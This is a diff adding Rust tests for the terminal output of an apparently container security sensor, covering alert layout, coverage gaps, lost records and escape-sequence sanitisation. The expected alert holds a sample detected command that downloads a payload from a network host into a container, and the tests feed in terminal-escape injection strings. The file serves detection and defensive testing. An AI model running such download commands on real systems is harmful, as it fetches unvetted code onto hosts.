@@ -1,0 +1,107 @@
+//! What people see, line by line, and what nobody can make them see.
+
+use jiff::tz::TimeZone;
+use unicode_width::UnicodeWidthStr;
+
+use super::*;
+use crate::sink::sample;
+
+fn show(message: &Message, width: usize) -> String {
+    render(message, &View { width, colour: false, zone: TimeZone::UTC })
+}
+
+#[test]
+fn an_alert_fits_on_a_screen() {
+    let expected = "\
+\x20HIGH  curl downloads into a container          T1105 · 12:03:14.281
+  container  web-1  8f3a2c91d0b4  nginx:1.25  docker
+  process    curl -sSLo /tmp/x http://10.0.0.2/payload
+             pid 4242  root
+  lineage    containerd-shim-runc-v2 ─ sh ─ curl
+  to         10.0.0.2:80 tcp   ↑ 92 B  ↓ 1.2 MiB
+  file       /tmp/x
+  timeline       0 ms  ran        curl -sSLo /tmp/x http://10.0.0.2/p…
+                12 ms  connected  10.0.0.2:80 tcp
+                15 ms  wrote      /tmp/x  1.2 MiB
+                19 ms  closed     10.0.0.2:80   ↑ 92 B  ↓ 1.2 MiB
+                20 ms  exited     0
+  next       1. Keep the file: docker cp web-1:/tmp/x .
+             2. Ask the owner of the image whether this download is
+                meant to happen; if nobody knows it, pause the
+                container and go on with the runbook for intrusions.
+  alert      #7  01932b9e-4c11-7abc-8def-0123456789ab  rule 6f2f0b5e…
+
+";
+    assert_eq!(show(&sample::message(), 68), expected);
+}
+
+#[test]
+fn the_sensor_says_what_it_does_not_see() {
+    let expected = "\
+\x20▲ watching 3 of 4 hooks, 6 detections · ready in 180 ms · 231 processes, 3 containers · Linux…  12:03:14.281
+   file renamed by fanotify, not seen: renames in other mount namespaces (fentry security_inode_rename refused…
+   module loaded: nothing attached, not seen: module loads (fentry security_kernel_read_file refused: EPERM)
+   this kernel does not tell task_struct.loginuid
+";
+    assert_eq!(show(&sample::coverage(), 110), expected);
+}
+
+#[test]
+fn losses_and_the_end_are_told() {
+    let expected = "\
+\x20▲ 12,411 records lost: what they would have told is not in any alert  12:03:14.281
+      12,408  network_connect  ring full
+           3  syslog udp://127.0.0.1:514  queue full
+";
+    assert_eq!(show(&sample::loss(), 84), expected);
+    let expected = " ■ stopped after 4 alerts from 120,034 events  12:03:14.281\n";
+    assert_eq!(show(&sample::stopped(), 59), expected);
+}
+
+#[test]
+fn no_line_is_wider_than_the_terminal() {
+    for message in [
+        sample::message(),
+        Message::Alert(Box::new(sample::hostile())),
+        sample::coverage(),
+        sample::loss(),
+        sample::stopped(),
+    ] {
+        for width in [40, 57, 80, 100, 140] {
+            for line in show(&message, width).lines() {
+                assert!(line.width() <= width, "{width}: {line}");
+                assert_eq!(line, line.trim_end(), "blanks at the end");
+            }
+        }
+    }
+}
+
+#[test]
+fn no_text_can_forge_a_line_or_move_the_cursor() {
+    let hostile = Message::Alert(Box::new(sample::hostile()));
+    let plain = show(&hostile, 100);
+    for line in plain.lines() {
+        assert!(!line.chars().any(escape::is_unsafe), "{line:?}");
+        assert!(!line.starts_with("<10>"), "{line:?}");
+    }
+    assert!(plain.contains(r"x\x1b[2J"), "{plain}");
+    assert!(plain.contains(r"\u{202e}"), "{plain}");
+
+    // With colour the only escape sequences are our own: select graphic rendition.
+    let painted = render(&hostile, &View { width: 100, colour: true, zone: TimeZone::UTC });
+    for sequence in painted.split('\u{1b}').skip(1) {
+        let end = sequence.find(|c: char| c.is_ascii_alphabetic()).unwrap();
+        let (parameters, rest) = sequence.split_at(end);
+        assert!(rest.starts_with('m'), "{sequence:?}");
+        assert!(parameters.bytes().all(|byte| b"[0123456789;".contains(&byte)), "{sequence:?}");
+    }
+    assert_eq!(painted.lines().count(), plain.lines().count());
+}
+
+#[test]
+fn colour_changes_no_letter() {
+    let colour = render(&sample::message(), &View { width: 100, colour: true, zone: TimeZone::UTC });
+    let stripped = anstream::adapter::strip_str(&colour).to_string();
+    assert_ne!(colour, stripped);
+    assert_eq!(stripped, show(&sample::message(), 100));
+}
